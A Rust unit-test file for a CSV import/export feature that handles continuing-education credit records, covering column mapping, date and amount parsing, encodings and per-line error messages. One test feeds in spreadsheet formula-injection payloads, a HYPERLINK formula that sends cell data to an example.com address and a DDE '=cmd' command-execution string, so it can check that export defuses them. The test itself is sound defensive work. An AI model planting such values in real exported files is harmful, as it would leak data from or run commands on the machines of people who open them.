use super::*;
use crate::domain::build::*;

fn today() -> NaiveDate {
    date("2026-06-30")
}

/// What an activity says, without the times an import stamps anew.
fn content(a: &Activity) -> Activity {
    let mut a = a.clone();
    a.created_at = DateTime::<Utc>::MIN_UTC;
    a.updated_at = DateTime::<Utc>::MIN_UTC;
    a
}

fn import(text: &str, existing: &[Activity]) -> Preview {
    let table = read_table(text).unwrap();
    let orders = date_orders(
        table
            .rows
            .iter()
            .flat_map(|(_, r)| r.iter().map(String::as_str)),
    );
    let mapping = Mapping {
        targets: guess_targets(&table.headers),
        date_order: orders[0],
        default_credit_type: "AMA_PRA_CAT1".into(),
        credit_types: Default::default(),
        topics: Default::default(),
    };
    preview(&table, &mapping, existing, today(), Utc::now())
}

#[test]
fn cells_a_spreadsheet_would_run_as_formulas_are_written_as_text_and_read_back_unchanged() {
    let titles = [
        "=HYPERLINK(\"http://example.com/?\"&A1,\"Click\")",
        "=1+1",
        "+1 555 0100 hotline",
        "-5 ways to chart",
        "@SUM(A1:A2)",
    ];
    let mut acts: Vec<Activity> = titles
        .iter()
        .map(|t| {
            activity("2025-03-12")
                .title(t)
                .credit("AMA_PRA_CAT1", "1")
                .build()
        })
        .collect();
    acts[0].notes = "=cmd|' /C calc'!A0".into();
    acts[1].provider = "@provider".into();
    let text = export(&acts);
    let table = read_table(&text).unwrap();
    // As a spreadsheet sees the file: no cell starts with a formula character.
    let mut raw = csv::Reader::from_reader(text.as_bytes());
    for record in raw.records() {
        for cell in record.unwrap().iter() {
            assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?} would run");
        }
    }
    assert_eq!(table.rows.len(), titles.len());
    let p = import(&text, &[]);
    assert_eq!(p.problems, vec![]);
    let back: Vec<Activity> = p.activities.iter().map(content).collect();
    let want: Vec<Activity> = acts.iter().map(content).collect();
    assert_eq!(back, want);
}

#[test]
fn an_export_imports_back_into_an_empty_profile_as_the_same_activities() {
    let mut board = activity("2025-03-12")
        .title("Board review, \"intensive\" course")
        .credit("AMA_PRA_CAT1", "10")
        .credit("ABIM_MOC_POINT", "10")
        .topic("ethics_professional_responsibility")
        .topic("implicit_bias")
        .build();
    board.start = date("2025-03-10");
    board
        .topic_hours
        .insert(TopicId::new("implicit_bias"), hours("1.5"));
    board.provider = "ACP; Philadelphia".into();
    board.notes = "Certificate in the drawer,\nsecond line; ümlaut".into();
    board.tags = vec!["board".into(), "2025".into()];
    board.reflection = Some(crate::domain::model::learning::Reflection {
        learned: "Early lactate, \"quoted\", line\nbreak".into(),
        will_change: "Sepsis bundle within the hour".into(),
        follow_up: Some(date("2025-06-12")),
        outcome: Some(crate::domain::model::learning::FollowUpOutcome {
            date: date("2025-06-12"),
            changed: crate::domain::model::learning::Changed::Partly,
            what_happened: "Faster antibiotics".into(),
        }),
    });
    board.format = Format::Conference;
    let planned = activity("2026-09-01")
        .title("Planned workshop")
        .credit("ANCC_CONTACT_HOUR", "2.25")
        .planned()
        .build();
    let acts = vec![board, planned];
    let text = export(&acts);
    assert!(text.starts_with(
            "title,provider,accreditor,start,end,format,status,credits,topics,tags,notes,id,learned,will_change,follow_up,changed,what_happened\r\n"
        ));
    let p = import(&text, &[]);
    assert_eq!(p.problems, vec![]);
    let back: Vec<Activity> = p.activities.iter().map(content).collect();
    let want: Vec<Activity> = acts.iter().map(content).collect();
    assert_eq!(back, want);
    // Imported again over itself: every row is offered as a duplicate.
    assert_eq!(import(&text, &acts).duplicates, vec![0, 1]);
}

#[test]
fn the_template_imports_as_its_example_row() {
    let p = import(&template(), &[]);
    assert_eq!(p.problems, vec![]);
    let [a] = p.activities.as_slice() else {
        panic!("{:?}", p.activities)
    };
    assert_eq!(a.start, date("2025-03-10"));
    assert_eq!(a.end, date("2025-03-11"));
    assert_eq!(a.credits.len(), 2);
    assert_eq!(
        a.topic_hours
            .get(&TopicId::new("ethics_professional_responsibility")),
        Some(&hours("1"))
    );
    assert_eq!(a.tags, ["conference", "2025"]);
}

#[test]
fn an_unknown_credit_type_is_listed_and_imported_as_the_type_the_user_maps_it_to() {
    let text = "Course,Date Completed,Credit Hours,CE Type\n\
                    Sepsis,2025-03-10,1,Nursing CE\n\
                    Stroke,2025-03-11,2,Nursing CE\n";
    let table = read_table(text).unwrap();
    let (mut mapping, _) = guess_mapping(&table);
    let p = preview(&table, &mapping, NO_ACTIVITIES, today(), Utc::now());
    assert_eq!(p.unknown_credit_types, vec![("Nursing CE".to_string(), 2)]);
    assert_eq!(
        p.activities[0].credits[0].credit_type.as_str(),
        "custom:Nursing CE"
    );
    mapping
        .credit_types
        .insert("Nursing CE".into(), "ANCC_CONTACT_HOUR".into());
    let p = preview(&table, &mapping, NO_ACTIVITIES, today(), Utc::now());
    // Still listed, so the choice can be changed; imported as the mapped type.
    assert_eq!(p.unknown_credit_types, vec![("Nursing CE".to_string(), 2)]);
    let types: Vec<&str> = p
        .activities
        .iter()
        .map(|a| a.credits[0].credit_type.as_str())
        .collect();
    assert_eq!(types, ["ANCC_CONTACT_HOUR", "ANCC_CONTACT_HOUR"]);
}

#[test]
fn the_date_order_is_asked_only_when_the_mapped_date_columns_allow_both() {
    let text = "Course,Start,Date Completed,Credit Hours\n\
                    A,03/04/2025,2025-03-04,1\n\
                    B,01/02/2025,2025-02-01,1\n";
    let table = read_table(text).unwrap();
    let (mapping, per_column) = guess_mapping(&table);
    assert_eq!(
        mapped_date_orders(&per_column, &mapping.targets),
        [DateOrder::MonthFirst, DateOrder::DayFirst]
    );
    // With the ambiguous start column not imported, the ISO column decides nothing to ask.
    let mut targets = mapping.targets.clone();
    targets[1] = Target::Ignore;
    assert_eq!(mapped_date_orders(&per_column, &targets), [DateOrder::Iso]);
    let text = "Course,Date Completed\nA,13/04/2025\nB,01/02/2025\n";
    let table = read_table(text).unwrap();
    let (mapping, per_column) = guess_mapping(&table);
    assert_eq!(mapping.date_order, DateOrder::DayFirst);
    assert_eq!(
        mapped_date_orders(&per_column, &mapping.targets),
        [DateOrder::DayFirst]
    );
}

#[test]
fn a_column_takes_a_target_from_the_column_that_had_it_and_gaps_are_named() {
    let headers: Vec<String> = ["Course", "Date", "Other date", "Hours"]
        .map(String::from)
        .to_vec();
    let table = Table {
        headers,
        rows: Vec::new(),
    };
    let (mut m, _) = guess_mapping(&table);
    assert_eq!(
        m.targets,
        [Target::Title, Target::End, Target::Ignore, Target::Amount]
    );
    assert_eq!(m.missing(), Vec::<&str>::new());
    m.assign(2, Target::End);
    assert_eq!(
        m.targets,
        [Target::Title, Target::Ignore, Target::End, Target::Amount]
    );
    m.assign(0, Target::Ignore);
    m.assign(3, Target::Notes);
    assert_eq!(
        m.missing(),
        [
            "Choose the column that holds each activity's title.",
            "Choose the column that holds the credits (an amount, or TYPE=amount pairs)."
        ]
    );
    m.map_credit_type("State CE", "ANCC_CONTACT_HOUR");
    assert_eq!(
        m.credit_types.get("State CE").map(String::as_str),
        Some("ANCC_CONTACT_HOUR")
    );
    m.map_credit_type("State CE", "");
    assert!(m.credit_types.is_empty());
}

#[test]
fn a_mapping_is_remembered_for_files_with_the_same_headers() {
    let headers: Vec<String> = ["Course", "When", "Hours"].map(String::from).to_vec();
    let mut remembered = RememberedMappings::default();
    assert_eq!(remembered.find(&headers), None);
    let mapping = Mapping {
        targets: vec![Target::Title, Target::End, Target::Amount],
        date_order: DateOrder::DayFirst,
        default_credit_type: "ANCC_CONTACT_HOUR".into(),
        credit_types: Default::default(),
        topics: Default::default(),
    };
    remembered.remember(&headers, &mapping);
    // Same headers, however spaced or capitalised: the same mapping.
    let again: Vec<String> = [" course", "WHEN", "Hours "].map(String::from).to_vec();
    assert_eq!(remembered.find(&again), Some(&mapping));
    assert_eq!(remembered.find(&headers[..2]), None);
    let one = Mapping {
        targets: vec![Target::Title],
        ..mapping.clone()
    };
    for i in 0..RememberedMappings::MAX {
        remembered.remember(&[format!("h{i}")], &one);
    }
    // The oldest is forgotten first.
    assert_eq!(remembered.find(&headers), None);
    assert!(remembered.find(&["h0".to_string()]).is_some());
}

#[test]
fn columns_are_guessed_from_the_words_other_trackers_use() {
    let headers: Vec<String> = [
        "Course",
        "Date Completed",
        "Credit Hours",
        "CE Type",
        "Sponsor",
        "Comments",
        "Whatever",
    ]
    .map(String::from)
    .to_vec();
    assert_eq!(
        guess_targets(&headers),
        [
            Target::Title,
            Target::End,
            Target::Amount,
            Target::CreditType,
            Target::Provider,
            Target::Notes,
            Target::Ignore
        ]
    );
}

#[test]
fn dates_are_read_in_the_files_order_and_ambiguity_is_asked() {
    let us = ["03/10/2025", "12/25/2025"];
    assert_eq!(date_orders(us.into_iter()), [DateOrder::MonthFirst]);
    let eu = ["10.03.2025", "25.12.2025"];
    assert_eq!(date_orders(eu.into_iter()), [DateOrder::DayFirst]);
    let either = ["03/04/2025", "01/02/2025"];
    assert_eq!(
        date_orders(either.into_iter()),
        [DateOrder::MonthFirst, DateOrder::DayFirst]
    );
    assert_eq!(date_orders(["2025-03-10"].into_iter()), [DateOrder::Iso]);
    assert_eq!(
        parse_date("03/04/2025", DateOrder::MonthFirst),
        Some(date("2025-03-04"))
    );
    assert_eq!(
        parse_date("03/04/2025", DateOrder::DayFirst),
        Some(date("2025-04-03"))
    );
    assert_eq!(
        parse_date("3/4/25", DateOrder::MonthFirst),
        Some(date("2025-03-04"))
    );
    assert_eq!(
        parse_date("2025-03-04T10:00:00", DateOrder::DayFirst),
        Some(date("2025-03-04"))
    );
    assert_eq!(parse_date("13/13/2025", DateOrder::DayFirst), None);
}

#[test]
fn amounts_take_a_decimal_comma_thousands_and_a_unit_word() {
    assert_eq!(parse_amount("1,5"), Some(hours("1.5")));
    assert_eq!(parse_amount("1,000.5"), Some(hours("1000.5")));
    assert_eq!(parse_amount(" 2 hours"), Some(hours("2")));
    assert_eq!(parse_amount("two"), None);
}

#[test]
fn windows_1252_and_a_byte_order_mark_are_read() {
    let (text, enc) = decode(b"Title\r\nCaf\xe9 \x93ethics\x94\r\n");
    assert_eq!(enc, Encoding::Windows1252);
    assert_eq!(text, "Title\r\nCafé “ethics”\r\n");
    let (text, enc) = decode("\u{feff}Title\r\nCafé\r\n".as_bytes());
    assert_eq!((text.as_str(), enc), ("Title\r\nCafé\r\n", Encoding::Utf8));
}

#[test]
fn bad_rows_are_named_by_their_line_and_the_good_ones_still_read() {
    let text = "Course;Date Completed;Credit Hours;CE Type\n\
                    Sepsis update;10/03/2025;1,5;AMA PRA Category 1 Credit™\n\
                    \"Ethics;\nwith a line break\";11/03/2025;2;State CE\n\
                    ;12/03/2025;1;\n\
                    Grand rounds;notadate;1;\n\
                    Journal club;13/03/2025;lots;\n\
                    Future;01/01/2030;1;\n";
    let p = import(text, &[]);
    let titles: Vec<&str> = p.activities.iter().map(|a| a.title.as_str()).collect();
    assert_eq!(titles, ["Sepsis update", "Ethics;\nwith a line break"]);
    assert_eq!(p.activities[0].end, date("2025-03-10"));
    assert_eq!(p.activities[0].credits[0].amount, hours("1.5"));
    assert_eq!(
        p.activities[1].credits[0].credit_type.as_str(),
        "custom:State CE"
    );
    assert_eq!(p.unknown_credit_types, vec![("State CE".to_string(), 1)]);
    let lines: Vec<u64> = p.problems.iter().map(|x| x.line).collect();
    // The quoted cell spans lines 3–4, so the rows after it start one line later.
    assert_eq!(lines, [5, 6, 7, 8]);
    assert!(p.problems[0].message.starts_with("Enter a title"));
    assert_eq!(p.problems[1].message, "“notadate” is not a date.");
    assert_eq!(p.problems[2].message, "“lots” is not an amount of credit.");
    assert!(p.problems[3].message.contains("future") || p.problems[3].message.contains("planned"));
}

#[test]
fn a_uan_column_gives_the_format_topic_and_accreditor_and_a_wrong_one_names_its_part() {
    let text = "Activity Date,Activity # (UAN),Title,Provider,Contact Hours,Credit Type\n\
                    2026-02-03,0204-0000-26-031-L06-P,Immunization update,ASHP,1.5,ACPE\n\
                    2026-02-04,0798-9999-25-012-H03-P,Pharmacy law 2026,State Pharmacy Association,1,ACPE\n\
                    2026-02-05,0798-9999-25-012-X03-P,A bad number,State Pharmacy Association,1,ACPE\n";
    let table = read_table(text).unwrap();
    let (mapping, _) = guess_mapping(&table);
    assert_eq!(mapping.targets[1], Target::Uan);
    let p = preview(&table, &mapping, NO_ACTIVITIES, today(), Utc::now());
    assert_eq!(p.activities.len(), 2);
    let (live, home) = (&p.activities[0], &p.activities[1]);
    assert_eq!(live.accreditor, Accreditor::Acpe);
    assert_eq!(live.format, Format::LiveInPerson);
    assert_eq!(live.topics[0].as_str(), "immunizations");
    assert!(
        live.notes.contains("ACPE UAN 0204-0000-26-031-L06-P"),
        "{}",
        live.notes
    );
    assert_eq!(home.format, Format::OnDemandOnline);
    assert_eq!(home.topics[0].as_str(), "board_laws_rules");
    assert_eq!(p.problems.len(), 1);
    assert_eq!(p.problems[0].line, 4);
    assert!(
        p.problems[0].message.contains("The fifth part"),
        "{}",
        p.problems[0].message
    );
}
